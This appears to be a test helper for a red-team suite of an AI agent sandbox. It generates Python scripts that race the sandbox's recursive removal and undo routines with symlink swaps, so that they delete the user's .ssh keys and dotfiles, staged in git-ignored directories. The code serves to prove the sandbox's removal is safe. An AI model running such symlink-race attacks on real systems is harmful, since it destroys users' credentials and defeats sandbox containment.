// Sandboxed commands (python3 scripts) that race a recursive removal of the worker's or the
// person's: a directory the removal is inside is swapped for a symlink to the person's directory.
// Shared by the red team rows that prove a removal goes through descriptors, not paths again.
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { undoProtectedWrites, type ProtectedScan } from '../../src/sandbox/protect';

/** The names of the person's `.ssh` the attacks guess (and the rows' victim directories hold). */
export const SSH_NAMES = ['id_rsa', 'id_ed25519', 'authorized_keys', 'known_hosts', 'config'];

/**
 * A sandboxed command, run in the background in `dir`: a directory `a<i>` and, listed after it, a
 * chain `z<j>/0/1/…/149` ending in a symlink `l` to `target` (deep, so that a concurrent removal —
 * Node's fs.rm works on siblings at once — reaches it last). `a<i>/.ssh` holds the names of an
 * `.ssh` and about 2,500 fillers, the names last in readdir order. It writes `ready` (a path from
 * `dir`), waits (inotify) until the first entry of `a<i>/.ssh` is deleted — the worker's (or the
 * person's) recursive removal is inside it — and
 * exchanges `a<i>` with the symlink once (renameat2 RENAME_EXCHANGE): every later path the removal
 * builds through `a<i>` leads into `target` (its `.ssh/<name>` are unlinked). In `node_modules/`
 * (ignored by the person's `.gitignore`: `git status` shows nothing to discard) or the worktree's
 * shadow git directory.
 */
export function swapperCommand(target: string, dir: string, secs: number, ready = 'READY'): string {
  return [
    `mkdir -p ${dir} && cd ${dir} && /usr/bin/python3 - <<'PY'`,
    'import ctypes, os, shutil, signal',
    `signal.alarm(${secs})`,
    'libc = ctypes.CDLL(None, use_errno=True)',
    "chain = '/'.join(str(i) for i in range(150))",
    'for k in range(10):',
    "    os.mkdir('a%d' % k)",
    "    os.makedirs('z%d/%s' % (k, chain))",
    "order = os.listdir('.')",
    "a = next(n for n in order if n.startswith('a') and any(m.startswith('z') for m in order[order.index(n):]))",
    "z = next(m for m in order[order.index(a):] if m.startswith('z'))",
    'for n in order:',
    '    if n not in (a, z):',
    '        shutil.rmtree(n)',
    "l = '%s/%s/l' % (z, chain)",
    `os.symlink(${JSON.stringify(target)}, l)`,
    "s = a + '/.ssh'",
    'os.mkdir(s)',
    `names = ${JSON.stringify(SSH_NAMES)}`,
    'for n in names:',
    "    open(s + '/' + n, 'w').close()",
    'i = 0',
    'while True:',
    '    for _ in range(1000):',
    "        open('%s/f%d' % (s, i), 'w').close()",
    '        i += 1',
    '    ls = os.listdir(s)',
    '    last = max(ls.index(n) for n in names)',
    '    if last >= 2500 or i >= 40000:',
    '        break',
    'for n in ls[last + 1:]:',
    "    os.unlink(s + '/' + n)",
    'fd = libc.inotify_init()',
    'libc.inotify_add_watch(fd, s.encode(), 0x200)',
    `open(${JSON.stringify(ready)}, 'w').close()`,
    'os.read(fd, 4096)',
    "print('swapped', libc.renameat2(-100, a.encode(), -100, l.encode(), 2), flush=True)",
    'PY',
  ].join('\n');
}

/**
 * A python3 program (run with `-c`) in `root`: `rounds` times it fills `.claude/a` with 3,000 fillers
 * and files of `names`, writes `ready`, waits until `a` changes (a removal took a first child), then
 * renames `a` away and puts a symlink to `person` in its place (the anchored undo's race, Q3).
 */
const subSwapper = (root: string, person: string, names: readonly string[], rounds: number) =>
  [
    'import os, time',
    `os.chdir(${JSON.stringify(root)})`,
    `names = ${JSON.stringify(names)}`,
    `for r in range(${rounds}):`,
    "    os.makedirs('.claude/a')",
    '    for i in range(3000):',
    "        open('.claude/a/f%04d' % i, 'w').write('x')",
    '    for n in names:',
    "        open('.claude/a/' + n, 'w').close()",
    "    open('ready', 'w').close()",
    "    m = os.stat('.claude/a').st_mtime_ns",
    '    end = time.time() + 5',
    '    while time.time() < end:',
    '        try:',
    "            if os.stat('.claude/a').st_mtime_ns != m: break",
    '        except OSError:',
    '            break',
    '    try:',
    "        os.rename('.claude/a', 'trash%d' % r)",
    `        os.symlink(${JSON.stringify(person)}, '.claude/a')`,
    '    except OSError:',
    '        pass',
    '    t1 = time.time() + 0.5',
    "    while os.path.lexists('.claude/a/f0000') and time.time() < t1: time.sleep(0.001)",
    '    time.sleep(0.05)',
    "    os.path.exists('ready') and os.remove('ready')",
    "    os.path.lexists('.claude') and os.system('rm -rf .claude')",
  ].join('\n');

/**
 * A sandboxed command (Q3 end to end): in `w/`, three rounds each build `stage<r>/a/` (3,000 fillers,
 * then files of `names`), rename `stage<r>` to the protected `d<r>/.claude` (new, with content: the
 * live guard undoes it while the command runs) and, as soon as the worker's walk removed a first
 * child of `a`, swap `a` for a symlink to `person`.
 */
export const stagedClaudeSwap = (person: string, names: readonly string[]): string =>
  [
    "mkdir -p w && cd w && /usr/bin/python3 - <<'PY'",
    'import os, time',
    `names = ${JSON.stringify(names)}`,
    'for r in range(3):',
    "    s, d = 'stage%d' % r, 'd%d/.claude' % r",
    "    os.makedirs(s + '/a'); os.makedirs('d%d' % r)",
    '    for i in range(3000):',
    "        open(s + '/a/f%04d' % i, 'w').write('x')",
    '    for n in names:',
    "        open(s + '/a/' + n, 'w').write('x')",
    '    os.rename(s, d)',
    "    m = os.stat(d + '/a').st_mtime_ns",
    '    end = time.time() + 3',
    '    while time.time() < end:',
    '        try:',
    "            if os.stat(d + '/a').st_mtime_ns != m: break",
    '        except OSError:',
    '            break',
    '    try:',
    "        os.rename(d + '/a', 'trash%d' % r)",
    `        os.symlink(${JSON.stringify(person)}, d + '/a')`,
    "        print('swapped', r)",
    '    except OSError as e:',
    "        print('no swap', r, e)",
    '    time.sleep(0.5)',
    'PY',
  ].join('\n');

/**
 * Q3's race against the anchored undo, in the worker's process: a child runs subSwapper in
 * `<base>/q3` for `rounds` rounds against 203 files of `<base>/q3-person`; each time it is ready, the
 * undo after a call (undoProtectedWrites) removes the new `.claude` (at most 20 s). How many undos
 * ran, and which of the person's files are gone.
 */
export async function anchoredUndoRace(base: string, rounds: number): Promise<{ undos: number; removed: string[] }> {
  const person = path.join(base, 'q3-person');
  const root = path.join(base, 'q3');
  mkdirSync(person, { recursive: true });
  mkdirSync(root, { recursive: true });
  const victims = ['.bashrc', '.profile', '.gitconfig', ...Array.from({ length: 200 }, (_, i) => `.victim${i}`)];
  for (const v of victims) writeFileSync(path.join(person, v), 'mine\n');
  const child = spawn('/usr/bin/python3', ['-c', subSwapper(root, person, victims, rounds)], { stdio: 'ignore' });
  const done = new Promise((r) => child.on('exit', r));
  const p = path.join(root, '.claude');
  const none: ProtectedScan = { entries: new Map(), truncated: false };
  const scan: ProtectedScan = { entries: new Map([[p, { path: p, kind: 'dir', existed: false }]]), truncated: false };
  let undos = 0;
  const t0 = Date.now();
  const gone = () => victims.some((v) => !existsSync(path.join(person, v)));
  while (Date.now() - t0 < 20_000 && child.exitCode === null && !gone()) {
    if (!existsSync(path.join(root, 'ready'))) {
      await new Promise((r) => setTimeout(r, 5));
      continue;
    }
    try {
      undoProtectedWrites(none, scan, [], [root], { moved: () => {} });
    } catch {
      // a removal that failed midway is not a removal outside
    }
    undos++;
    rmSync(path.join(root, 'ready'), { force: true });
    await new Promise((r) => setTimeout(r, 20));
  }
  child.kill();
  await done;
  const left = new Set(readdirSync(person));
  return { undos, removed: victims.filter((v) => !left.has(v)) };
}
